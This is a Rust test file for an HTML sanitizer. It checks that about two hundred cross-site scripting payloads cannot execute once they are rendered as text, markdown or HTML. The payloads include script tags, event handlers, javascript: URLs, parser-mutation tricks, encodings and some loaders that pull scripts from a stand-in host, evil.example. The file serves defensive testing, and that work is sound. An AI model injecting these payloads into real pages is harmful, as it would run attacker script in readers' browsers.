//! What people send who want their script to run on readers' pages.

use super::*;
use scraper::{Html, Node};

/// Elements that may stand in a body as readers get it, and their attributes.
const ELEMENTS: &str = "a abbr acronym address area article aside audio b bdi bdo blockquote br caption center \
    cite code col colgroup data dd del details dfn div dl dt em figcaption figure footer h1 h2 h3 h4 h5 h6 \
    header hgroup hr html i iframe img ins kbd li main map mark nav ol p picture pre q rp rt rtc ruby s samp \
    section small source span strike strong sub summary sup table tbody td tfoot th thead time tr tt u ul \
    var video wbr";
const ATTRIBUTES: &str = "align allowfullscreen alt axis char charoff cite class colspan controls datetime dir \
    headers height href hreflang id lang loading loop media name open poster preload referrerpolicy rel reversed \
    rowspan sandbox scope size sizes span src srcset start summary title type value width shape coords";
const SCHEMES: [&str; 4] = ["http", "https", "mailto", "tel"];

/// Payloads of the usual cheat sheets: tags, handlers, schemes, encodings, and markup that changes its
/// meaning when it is parsed again.
const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/src=data:,alert(1)>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)//",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"x\"onerror=alert(1)>",
    "<img src=x:x onerror=\"alert(1)\">",
    "<img src=`x`onerror=alert(1)>",
    "<img src=x onerror\x0b=alert(1)>",
    "<img src=x onerror\x0c=alert(1)>",
    "<img\x00src=x onerror=alert(1)>",
    "<img src=x\tonerror\n=\ralert(1)>",
    "<img src=javascript:alert(1)>",
    "<img dynsrc=javascript:alert(1)>",
    "<img lowsrc=javascript:alert(1)>",
    "<img src=\"jav&#x09;ascript:alert(1)\">",
    "<img srcset=\"javascript:alert(1) 1x\">",
    "<img src=1 href=1 onerror=\"javascript:alert(1)\"></img>",
    "<img alt=\"<img src=x onerror=alert(1)>\" src=\"a.jpg\">",
    "<img title=\"&quot;&gt;&lt;img src=x onerror=alert(1)&gt;\" src=a.jpg>",
    "<img alt='\"><script>alert(1)</script>' src=a.jpg>",
    "<image src=x onerror=alert(1)>",
    "<image href=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><script xlink:href=data:,alert(1)></script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><desc><script>alert(1)</script></desc></svg>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x\">",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mtext><table><mglyph><style><math><img src onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<math><annotation-xml encoding=\"application/xhtml+xml\"><img src=x onerror=alert(1)></annotation-xml>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\">",
    "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<plaintext><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<template><img src=x onerror=alert(1)></template>",
    "<style>@import'javascript:alert(1)';</style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<style><style/><img src=x onerror=alert(1)>",
    "<style>/*</style><img src=x onerror=alert(1)>*/</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<div style=\"behavior:url(x.htc)\">x</div>",
    "<p style=\"-moz-binding:url(//evil.example/x.xml#x)\">x</p>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<link rel=import href=data:text/html,<script>alert(1)</script>>",
    "<link rel=preload as=script href=//evil.example/x.js onload=alert(1)>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<base href=javascript:/a/+alert(1)//>",
    "<base href=//evil.example/>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe src=https://evil.example srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\" onload=alert(1)>",
    "<iframe src=\"https://evil.example/&quot;><script>alert(1)</script>\"></iframe>",
    "<iframe src=https://evil.example title='\"><script>alert(1)</script>'></iframe>",
    "<iframe src=https://evil.example><!--</iframe><script>alert(1)</script>-->",
    "<iframe src=https://evil.example></iframe<><script>alert(1)</script>",
    "<iframe src=https://evil.example>&lt;/iframe&gt;&lt;script&gt;alert(1)&lt;/script&gt;</iframe>",
    "<iframe/src=\"data:text/html,<svg onload=alert(1)>\">",
    "<iframe src=\"vbscript:msgbox(1)\"></iframe>",
    "<iframe src=\"jAvAsCrIpT&colon;alert(1)\"></iframe>",
    "<iframe src=\"https:javascript:alert(1)\"></iframe>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)></object>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<object type=text/x-scriptlet data=//evil.example></object>",
    "<embed src=javascript:alert(1)>",
    "<embed code=//evil.example/x.swf allowscriptaccess=always>",
    "<applet code=x codebase=//evil.example></applet>",
    "<param name=url value=javascript:alert(1)>",
    "<portal src=javascript:alert(1)>",
    "<fencedframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"\x01javascript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java\x00script:alert(1)\">x</a>",
    "<a href=javascript&colon;alert(1)>x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1)\">x</a>",
    "<a href=\"javascript&NewLine;:alert(1)\">x</a>",
    "<a href=\"java&Tab;script:alert(1)\">x</a>",
    "<a href=\"javascript://%0aalert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"livescript:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"blob:https://n.example/x\">x</a>",
    "<a href=\"filesystem:https://n.example/x\">x</a>",
    "<a href=\"feed:javascript:alert(1)\">x</a>",
    "<a href=\"view-source:javascript:alert(1)\">x</a>",
    "<a href=\"jar:javascript:alert(1)!/\">x</a>",
    "<a href=\"https://n.example/\" ping=javascript:alert(1)>x</a>",
    "<a href=# onclick=alert(1)>x</a>",
    "<a href=\"x\" style=\"animation:x\" onanimationstart=alert(1)>x</a>",
    "<a href='x' onmouseover='alert(1)'>x</a>",
    "<a target=_blank rel=opener href=//evil.example>x</a>",
    "<a href=\"https://n.example/\"\"onclick=alert(1)\">x</a>",
    "<a id=x name=y href=\"&quot; onclick=alert(1) x=&quot;\">x</a>",
    "<area href=javascript:alert(1)>",
    "<map name=x><area href=javascript:alert(1) shape=rect coords=0,0,9,9></map>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<input type=image src=x formaction=javascript:alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<input value=\"x\" onblur=alert(1) autofocus><input autofocus>",
    "<select onfocus=alert(1) autofocus><option>x</option></select>",
    "<textarea onfocus=alert(1) autofocus>x</textarea>",
    "<keygen onfocus=alert(1) autofocus>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<button onclick=alert(1)>x</button>",
    "<video src=x onerror=alert(1)></video>",
    "<video><source onerror=alert(1)></video>",
    "<video onloadstart=alert(1) src=x></video>",
    "<video poster=javascript:alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<audio autoplay onplay=alert(1) src=data:audio/wav,x></audio>",
    "<track onload=alert(1) src=x>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<body background=javascript:alert(1)>",
    "<body onpageshow=alert(1) onhashchange=alert(1)>",
    "<html onmouseover=alert(1)>x",
    "<table background=javascript:alert(1)><td>x</table>",
    "<td background=javascript:alert(1)>x</td>",
    "<div onpointerenter=alert(1) onwheel=alert(1) contenteditable>x</div>",
    "<div onscrollend=alert(1) popover id=x>x</div>",
    "<p onbeforetoggle=alert(1) popover>x</p>",
    "<x onclick=alert(1)>x</x>",
    "<custom-element onclick=alert(1) is=x>x</custom-element>",
    "<bgsound src=javascript:alert(1)>",
    "<layer src=//evil.example></layer>",
    "<xml id=x><x><![CDATA[<img src=x onerror=alert(1)>]]></x></xml>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<?import implementation=//evil.example/x.htc>",
    "<!doctype html><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY x \"<script>alert(1)</script>\">]>&x;",
    "<comment><img src=\"</comment><img src=x onerror=alert(1)>\">",
    "<b \"<script>alert(1)</script>\">x</b>",
    "<p title=\"x\"\"><script>alert(1)</script>\">x</p>",
    "<p/onclick=alert(1)//x>x</p>",
    "<p title='</p><script>alert(1)</script>'>x</p>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<q cite=\"data:text/html,x\">x</q>",
    "<del cite=javascript:alert(1)>x</del>",
    "<time datetime='\"onclick=alert(1)'>x</time>",
    "<span lang='\"><script>alert(1)</script>'>x</span>",
    "<span dir='rtl\" onclick=\"alert(1)'>x</span>",
    "<p id='\"><script>alert(1)</script>'>x</p>",
    "<p id=__proto__ name=cookie class=admin>x</p>",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "\u{bc}script\u{be}alert(1)\u{bc}/script\u{be}",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1) )",
    "[x](x \"title' onclick='alert(1)\")",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](x)",
    "![x](x\"onerror=\"alert(1))",
    "<javascript:alert(1)>",
    "<https://n.example/\"onclick=alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[a]: x \"onclick=alert(1)\"\n\n[a]",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "[^x]\n\n[^x]: <img src=x onerror=alert(1)>",
    "| <script>alert(1)</script> |\n|-|\n| <img src=x onerror=alert(1)> |",
    "# <svg onload=alert(1)>",
    "~~<a href=javascript:alert(1)>x</a>~~",
];

/// What a payload is put into.
const AROUND: [(&str, &str); 6] = [
    ("", ""),
    ("<p>a ", " b</p>"),
    ("<table><tr><td>", "</td></tr></table>"),
    ("<a href=\"https://n.example/", "\">x</a>"),
    ("<figure><img src=\"i.jpg\" alt='", "'></figure>"),
    ("<b><i><u>", "</i></b>"),
];

/// Fails when a browser could run anything of it.
fn harmless(html: &str, payload: &str) {
    let parsed = Html::parse_fragment(html);
    for node in parsed.root_element().descendants() {
        let element = match node.value() {
            Node::Element(element) => element,
            Node::Text(_) => continue,
            other => panic!("{payload:?} became {html:?}, with {other:?}"),
        };
        assert!(
            ELEMENTS.split(' ').any(|name| name == element.name()),
            "{payload:?} became {html:?}"
        );
        for (name, value) in element.attrs() {
            assert!(
                ATTRIBUTES.split(' ').any(|known| known == name),
                "{name}: {payload:?} became {html:?}"
            );
            if !matches!(name, "href" | "src" | "poster" | "cite") {
                continue;
            }
            if let Ok(url) = url::Url::parse(value) {
                assert!(SCHEMES.contains(&url.scheme()), "{payload:?} became {html:?}");
            }
        }
    }
}

#[test]
fn nothing_of_it_runs() {
    let hosts = ["evil.example".to_owned()];
    let settings =
        [Setting::default(), Setting { page: Some("https://n.example/a/b"), embed_hosts: &hosts }];
    for payload in PAYLOADS {
        for (before, after) in AROUND {
            let body = format!("{before}{payload}{after}");
            for format in [BodyFormat::Text, BodyFormat::Markdown, BodyFormat::Html] {
                for setting in settings {
                    let html = render_in(&body, format, setting).html;
                    harmless(&html, &body);
                    // and nothing comes to life when it is cleaned once more
                    let again = render(&html, BodyFormat::Html).html;
                    harmless(&again, &body);
                }
            }
        }
    }
}
